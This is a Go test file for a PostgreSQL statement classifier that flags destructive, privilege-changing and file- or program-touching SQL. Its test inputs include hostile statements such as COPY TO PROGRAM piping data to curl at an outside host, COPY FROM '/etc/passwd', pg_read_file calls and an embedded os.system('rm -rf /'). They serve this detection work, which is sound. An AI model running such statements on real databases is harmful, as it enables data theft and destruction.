package sqlclass

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite testdata/classify.golden")

// classifyCase is one golden case. must and mustNot pin the
// security-relevant part of the expectation independently of the golden
// file, so a careless -update cannot hide a regression there.
type classifyCase struct {
	name    string
	sql     string
	must    []Kind // kinds the first statement must carry
	mustNot []Kind // kinds no statement may carry
	fn      string // a function the first statement must report
	opaque  bool   // the first statement must be Opaque
	missing bool   // the first statement must report MissingWhere
	wantErr bool
}

var classifyCases = []classifyCase{
	// Plain statements.
	{name: "select", sql: "SELECT a FROM t WHERE b = 1", must: []Kind{Select}, mustNot: []Kind{Delete, Update, Insert}},
	{name: "insert values", sql: "INSERT INTO s.t (a) VALUES (1), (2)", must: []Kind{Insert}, mustNot: []Kind{Select}},
	{name: "insert select", sql: "INSERT INTO t SELECT * FROM u", must: []Kind{Insert, Select}},
	{name: "upsert", sql: "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", must: []Kind{Insert, Update}},
	{name: "update with where", sql: "UPDATE t SET a = 1 WHERE id = 2", must: []Kind{Update}},
	{name: "update without where", sql: "UPDATE t SET a = 1", must: []Kind{Update}, missing: true},
	{name: "delete without where", sql: "DELETE FROM t", must: []Kind{Delete}, missing: true},
	{name: "delete where current of", sql: "DELETE FROM t WHERE CURRENT OF c", must: []Kind{Delete}},
	{name: "update from join", sql: "UPDATE t SET a = u.a FROM u WHERE t.id = u.id", must: []Kind{Update}},
	{name: "truncate", sql: "TRUNCATE a, b.c", must: []Kind{Truncate}},
	{name: "drop table", sql: "DROP TABLE IF EXISTS public.t, u CASCADE", must: []Kind{Drop}},
	{name: "drop schema", sql: "DROP SCHEMA app CASCADE", must: []Kind{Drop}},
	{name: "alter table", sql: "ALTER TABLE t ADD COLUMN c int REFERENCES u(id)", must: []Kind{Alter}},
	{name: "create table", sql: "CREATE TABLE t (id serial, at timestamptz DEFAULT now())", must: []Kind{Create}, fn: "now"},
	{name: "create index", sql: "CREATE INDEX CONCURRENTLY i ON t (lower(a))", must: []Kind{Create}, fn: "lower"},
	{name: "create table as", sql: "CREATE TABLE t2 AS SELECT * FROM t", must: []Kind{Create, Select}},
	{name: "select into", sql: "SELECT * INTO t2 FROM t", must: []Kind{Select, Create}},
	{name: "grant", sql: "GRANT SELECT ON TABLE t TO bob", must: []Kind{Grant}},
	{name: "grant all in schema", sql: "GRANT ALL ON ALL TABLES IN SCHEMA app TO bob", must: []Kind{Grant}},
	{name: "revoke role", sql: "REVOKE admin FROM bob", must: []Kind{Revoke}},
	{name: "call", sql: "CALL app.do_it(1)", must: []Kind{Call}, fn: "do_it"},
	{name: "set role", sql: "SET ROLE admin", must: []Kind{SetRole}, mustNot: []Kind{Set}},
	{name: "set session authorization", sql: "SET SESSION AUTHORIZATION admin", must: []Kind{SetRole}},
	{name: "reset role", sql: "RESET ROLE", must: []Kind{SetRole}},
	{name: "set_config role", sql: "SELECT set_config('role', 'admin', false)", must: []Kind{Select, SetRole}},
	{name: "set_config other", sql: "SELECT set_config('application_name', 'x', false)", must: []Kind{Select}, mustNot: []Kind{SetRole}},
	{name: "set", sql: "SET statement_timeout = '5s'", must: []Kind{Set}, mustNot: []Kind{SetRole}},
	{name: "show", sql: "SHOW search_path", must: []Kind{Show}},
	{name: "begin", sql: "BEGIN ISOLATION LEVEL SERIALIZABLE", must: []Kind{Transaction}},
	{name: "commit", sql: "COMMIT", must: []Kind{Transaction}},
	{name: "vacuum analyze", sql: "VACUUM (ANALYZE) t", must: []Kind{Vacuum}},
	{name: "analyze", sql: "ANALYZE t", must: []Kind{Analyze}},
	{name: "lock", sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", must: []Kind{Lock}},
	{name: "listen notify", sql: "LISTEN ch; NOTIFY ch, 'x'; UNLISTEN *", must: []Kind{Listen}},
	{name: "refresh", sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", must: []Kind{Refresh}},
	{name: "load", sql: "LOAD 'auto_explain'", must: []Kind{Load}},
	{name: "security label is other", sql: "SECURITY LABEL FOR selinux ON TABLE t IS 'x'", must: []Kind{Other}},

	// The tricks the issue lists.
	{name: "multi statement", sql: "SELECT 1; DROP TABLE t", must: []Kind{Select}},
	{name: "casing", sql: "DeLeTe FrOm T", must: []Kind{Delete}, missing: true},
	{name: "comment between tokens", sql: "DELETE/**/FROM/* x */t", must: []Kind{Delete}, missing: true},
	{name: "line comment then statement", sql: "-- harmless\nDROP TABLE t", must: []Kind{Drop}},
	{name: "nested comment", sql: "/* a /* b */ c */ TRUNCATE t", must: []Kind{Truncate}},
	{name: "delete in cte", sql: "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", must: []Kind{Select, Delete}, missing: true},
	{name: "update in cte of insert", sql: "WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) INSERT INTO log SELECT * FROM u", must: []Kind{Insert, Update, Select}},
	{name: "merge then delete", sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)", must: []Kind{Merge, Delete, Insert}},
	{name: "merge then update", sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN UPDATE SET a = s.a", must: []Kind{Merge, Update}},
	{name: "copy delete returning", sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", must: []Kind{CopyTo, Delete}, missing: true},
	{name: "copy from stdin", sql: "COPY t (a, b) FROM STDIN WITH (FORMAT csv)", must: []Kind{CopyFrom}, mustNot: []Kind{CopyProgram}},
	{name: "copy to stdout", sql: "COPY t TO STDOUT", must: []Kind{CopyTo}, mustNot: []Kind{CopyFrom}},
	{name: "copy to program", sql: "COPY t TO PROGRAM 'curl -d @- http://x'", must: []Kind{CopyTo, CopyProgram}},
	{name: "copy from program", sql: "COPY t FROM PROGRAM 'cat /etc/passwd'", must: []Kind{CopyFrom, CopyProgram}},
	{name: "copy from file", sql: "COPY t FROM '/etc/passwd'", must: []Kind{CopyFrom, CopyFile}},
	{name: "explain analyze update", sql: "EXPLAIN ANALYZE UPDATE t SET a = 1", must: []Kind{Explain, Update}, missing: true},
	{name: "explain options analyze delete", sql: "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE a = 1", must: []Kind{Explain, Delete}},
	{name: "explain analyze true", sql: "EXPLAIN (ANALYZE true) DELETE FROM t", must: []Kind{Explain, Delete}},
	{name: "explain plain update", sql: "EXPLAIN UPDATE t SET a = 1", must: []Kind{Explain}, mustNot: []Kind{Update}},
	{name: "explain analyze off", sql: "EXPLAIN (ANALYZE off) DELETE FROM t", must: []Kind{Explain}, mustNot: []Kind{Delete}},
	{name: "explain analyze execute", sql: "EXPLAIN ANALYZE EXECUTE p(1)", must: []Kind{Explain, Execute}},
	{name: "do plpgsql delete", sql: "DO $$BEGIN DELETE FROM t; END$$", must: []Kind{Do, Delete}, missing: true},
	{name: "do plpgsql perform function", sql: "DO $$BEGIN PERFORM pg_catalog.pg_read_file('/etc/passwd'); END$$", must: []Kind{Do, Select}, fn: "pg_read_file", mustNot: []Kind{Delete}},
	{name: "do execute constant", sql: "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$", must: []Kind{Do, Drop}, mustNot: []Kind{Delete}},
	{name: "do execute dynamic", sql: "DO $$DECLARE n text := 't'; BEGIN EXECUTE 'DROP TABLE ' || n; END$$", must: []Kind{Do, Drop, Delete, Update}, opaque: true, missing: true},
	{name: "do execute format", sql: "DO $$BEGIN EXECUTE format('TRUNCATE %I', 't'); END$$", must: []Kind{Do, Truncate}, fn: "format", opaque: true},
	{name: "do for in execute", sql: "DO $$DECLARE r record; q text := 'select 1'; BEGIN FOR r IN EXECUTE q LOOP END LOOP; END$$", must: []Kind{Do, Delete}, opaque: true},
	{name: "do dml in condition and assignment", sql: "DO $$DECLARE x int; BEGIN x := (SELECT count(*) FROM secrets); IF x > 0 THEN UPDATE t SET a = x WHERE id = 1; END IF; END$$", must: []Kind{Do, Select, Update}, mustNot: []Kind{Delete}},
	{name: "do language other", sql: "DO LANGUAGE plpython3u $$import os; os.system('rm -rf /')$$", must: []Kind{Do, Delete, Drop, CopyProgram}, opaque: true, missing: true},
	{name: "do unparseable body", sql: "DO $$ BEGIN this is not plpgsql; END $$", must: []Kind{Do, Delete}, opaque: true, missing: true},
	{name: "do body with own dollar tag", sql: "DO $x$BEGIN EXECUTE $gh$DELETE FROM t$gh$; END$x$", must: []Kind{Do, Delete}, missing: true},
	{name: "do commit", sql: "DO $$BEGIN INSERT INTO t VALUES (1); COMMIT; END$$", must: []Kind{Do, Insert, Transaction}},
	{name: "prepare delete", sql: "PREPARE p (int) AS DELETE FROM t WHERE id = $1", must: []Kind{Prepare, Delete}},
	{name: "execute", sql: "EXECUTE p(1)", must: []Kind{Execute}},
	{name: "deallocate", sql: "DEALLOCATE ALL", must: []Kind{Deallocate}},
	{name: "create rule", sql: "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit", must: []Kind{Create, Delete}, missing: true},
	{name: "create function sql", sql: "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", must: []Kind{Create, Delete}, missing: true},
	{name: "create function plpgsql", sql: "CREATE OR REPLACE FUNCTION f(n int) RETURNS int LANGUAGE plpgsql AS $f$BEGIN UPDATE t SET a = n WHERE id = n; RETURN n; END$f$", must: []Kind{Create, Update}},
	{name: "create function atomic", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE a = 1; SELECT 1; END", must: []Kind{Create, Delete, Select}},
	{name: "create function c", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", must: []Kind{Create, Delete}, opaque: true},
	{name: "create trigger function", sql: "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN NEW.x := now(); DELETE FROM q WHERE id = NEW.id; RETURN NEW; END$$", must: []Kind{Create, Delete}, fn: "now"},
	{name: "function in from", sql: "SELECT * FROM pg_ls_dir('.') AS f", must: []Kind{Select}, fn: "pg_ls_dir"},
	{name: "function qualified and quoted", sql: `SELECT "pg_catalog"."PG_READ_FILE"('x')`, must: []Kind{Select}, fn: "pg_read_file"},
	{name: "function in subquery", sql: "SELECT a FROM t WHERE b IN (SELECT lo_export(1, '/tmp/x'))", fn: "lo_export"},
	{name: "function in cte default", sql: "WITH x AS (SELECT dblink_exec('c', 'drop table t')) SELECT 1", fn: "dblink_exec", mustNot: []Kind{Drop}},
	{name: "extended protocol parameters", sql: "UPDATE t SET a = $1 WHERE id = $2", must: []Kind{Update}},
	{name: "e string", sql: `SELECT E'it\'s; DROP TABLE t'`, must: []Kind{Select}, mustNot: []Kind{Drop}},
	{name: "dollar string", sql: "SELECT $q$ DELETE FROM t; $q$", must: []Kind{Select}, mustNot: []Kind{Delete}},

	// Benign text that must not be caught.
	{name: "column named delete", sql: `SELECT "delete" FROM t`, must: []Kind{Select}, mustNot: []Kind{Delete}},
	{name: "string containing drop", sql: "SELECT 'drop table x'", must: []Kind{Select}, mustNot: []Kind{Drop}},
	{name: "cte named update", sql: "WITH update AS (SELECT 1) SELECT * FROM update", must: []Kind{Select}, mustNot: []Kind{Update}},
	{name: "comment containing drop", sql: "SELECT 1 /* DROP TABLE t */ -- DELETE FROM t", must: []Kind{Select}, mustNot: []Kind{Drop, Delete}},
	{name: "string with semicolon", sql: "select 'x; drop table y'", must: []Kind{Select}, mustNot: []Kind{Drop}},
	{name: "e string with dml", sql: `SELECT E'\x44ELETE FROM t'`, must: []Kind{Select}, mustNot: []Kind{Delete}},
	{name: "dollar string with dml", sql: "SELECT $$UPDATE t SET a = 1$$", must: []Kind{Select}, mustNot: []Kind{Update}},
	{name: "table named drop", sql: `SELECT * FROM "drop"`, must: []Kind{Select}, mustNot: []Kind{Drop}},
	{name: "plain do without dml", sql: "DO $$BEGIN RAISE NOTICE 'DELETE FROM t'; END$$", must: []Kind{Do}, mustNot: []Kind{Delete, Select}},

	// Rejected by the parser.
	{name: "syntax error", sql: "SELEC 1", wantErr: true},
	{name: "unterminated string", sql: "SELECT 'abc", wantErr: true},
	{name: "second statement bad", sql: "SELECT 1; DROP TABEL t", wantErr: true},
	{name: "empty", sql: ""},
	{name: "only comments", sql: "-- nothing\n/* here */ ;;"},
}

type goldenCase struct {
	Name   string  `json:"name"`
	SQL    string  `json:"sql"`
	Error  string  `json:"error,omitempty"`
	Result *Result `json:"result,omitempty"`
}

func TestClassify(t *testing.T) {
	var got []goldenCase
	for _, tc := range classifyCases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Classify(tc.sql)
			g := goldenCase{Name: tc.name, SQL: tc.sql, Result: res}
			if err != nil {
				g.Error = err.Error()
			}
			got = append(got, g)
			if (err != nil) != tc.wantErr {
				t.Fatalf("Classify(%q): got error %v, want error %v", tc.sql, err, tc.wantErr)
			}
			if err != nil {
				return
			}
			if len(res.Statements) == 0 {
				if len(tc.must) > 0 {
					t.Fatalf("Classify(%q): got no statements", tc.sql)
				}
				return
			}
			st := res.Statements[0]
			for _, k := range tc.must {
				if !slices.Contains(st.Kinds, k) {
					t.Errorf("kinds: got %v, want %s among them", st.Kinds, k)
				}
			}
			if len(tc.must) > 0 && st.Kinds[0] != tc.must[0] {
				t.Errorf("top-level kind: got %s, want %s", st.Kinds[0], tc.must[0])
			}
			for _, s := range res.Statements {
				for _, k := range tc.mustNot {
					if slices.Contains(s.Kinds, k) {
						t.Errorf("kinds: got %v, want no %s", s.Kinds, k)
					}
				}
			}
			if tc.fn != "" && !slices.Contains(st.Functions, tc.fn) {
				t.Errorf("functions: got %v, want %s among them", st.Functions, tc.fn)
			}
			if st.Opaque != tc.opaque {
				t.Errorf("opaque: got %v, want %v", st.Opaque, tc.opaque)
			}
			if tc.missing && !st.MissingWhere {
				t.Errorf("missing where: got false, want true")
			}
		})
	}

	path := filepath.Join("testdata", "classify.golden")
	var buf bytes.Buffer
	for _, g := range got {
		b, err := json.Marshal(g)
		if err != nil {
			t.Fatal(err)
		}
		buf.Write(b)
		buf.WriteByte('\n')
	}
	if *update {
		if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run with -update to create it): %v", err)
	}
	if diff := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(buf.String(), "\n")); diff != "" {
		t.Errorf("golden mismatch (-want +got), run with -update if intended:\n%s", diff)
	}
}

// TestWhatEachStatementSees pins per-statement details the golden file
// shows but must not silently lose.
func TestWhatEachStatementSees(t *testing.T) {
	res := mustClassify(t, "SELECT 1; DROP TABLE s.t")
	if len(res.Statements) != 2 {
		t.Fatalf("statements: got %d, want 2", len(res.Statements))
	}
	if got, want := res.Statements[1].Kinds, []Kind{Drop}; !slices.Equal(got, want) {
		t.Errorf("second statement kinds: got %v, want %v", got, want)
	}
	if got, want := res.Statements[1].Tables, []Table{{Schema: "s", Name: "t", Write: true}}; !slices.Equal(got, want) {
		t.Errorf("drop tables: got %v, want %v", got, want)
	}

	st := mustClassify(t, "INSERT INTO app.log SELECT * FROM app.events e JOIN users u ON u.id = e.uid").Statements[0]
	wantTables := []Table{{Schema: "app", Name: "log", Write: true}, {Schema: "app", Name: "events"}, {Name: "users"}}
	if diff := cmp.Diff(wantTables, st.Tables); diff != "" {
		t.Errorf("tables (-want +got):\n%s", diff)
	}

	st = mustClassify(t, "COPY t TO STDOUT").Statements[0]
	if diff := cmp.Diff([]Table{{Name: "t"}}, st.Tables); diff != "" {
		t.Errorf("copy to tables (-want +got):\n%s", diff)
	}
	st = mustClassify(t, "EXPLAIN DELETE FROM t").Statements[0]
	if st.MissingWhere || len(st.Tables) != 1 || st.Tables[0].Write {
		t.Errorf("plain explain: got missing where %v, tables %v; want false, t read", st.MissingWhere, st.Tables)
	}

	st = mustClassify(t, "SELECT pg_catalog.pg_read_file('x')").Statements[0]
	if diff := cmp.Diff([]string{"pg_catalog.pg_read_file", "pg_read_file"}, st.Functions); diff != "" {
		t.Errorf("functions (-want +got):\n%s", diff)
	}

	st = mustClassify(t, "PREPARE p AS UPDATE t SET a = 1").Statements[0]
	if st.Prepares != "p" || !st.MissingWhere || !slices.Contains(st.Kinds, Update) {
		t.Errorf("prepare: got %+v, want Prepares p, update, missing where", st)
	}
	st = mustClassify(t, "EXECUTE p").Statements[0]
	if st.Executes != "p" {
		t.Errorf("execute: got Executes %q, want p", st.Executes)
	}

	st = mustClassify(t, "GRANT SELECT ON ALL TABLES IN SCHEMA app TO bob").Statements[0]
	if diff := cmp.Diff([]Table{{Schema: "app", Name: "*", Write: true}}, st.Tables); diff != "" {
		t.Errorf("grant in schema tables (-want +got):\n%s", diff)
	}

	res = mustClassify(t, "SELECT a FROM t WHERE b = 42 AND c = 'secret'")
	if !strings.Contains(res.Normalized, "$1") || strings.Contains(res.Normalized, "secret") || res.Fingerprint == "" {
		t.Errorf("normalized %q, fingerprint %q: want constants replaced and a fingerprint", res.Normalized, res.Fingerprint)
	}
}

func TestOpaqueCarriesEveryKind(t *testing.T) {
	st := mustClassify(t, "DO LANGUAGE plperl 'system(1)'").Statements[0]
	for _, k := range AllKinds() {
		if !slices.Contains(st.Kinds, k) {
			t.Errorf("opaque kinds: got %v, want %s among them", st.Kinds, k)
		}
	}
}

func TestEmbedDepthIsBounded(t *testing.T) {
	sql := "DELETE FROM t"
	for range maxEmbedDepth + 2 {
		sql = fmt.Sprintf("DO %s", dollarQuote("BEGIN EXECUTE "+quoteLiteral(sql)+"; END"))
	}
	st := mustClassify(t, sql).Statements[0]
	if !st.Opaque {
		t.Errorf("nested %d deep: got opaque false, want true", maxEmbedDepth+2)
	}
}

func quoteLiteral(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

func mustClassify(tb testing.TB, sql string) *Result {
	tb.Helper()
	res, err := Classify(sql)
	if err != nil {
		tb.Fatalf("Classify(%q): %v", sql, err)
	}
	return res
}
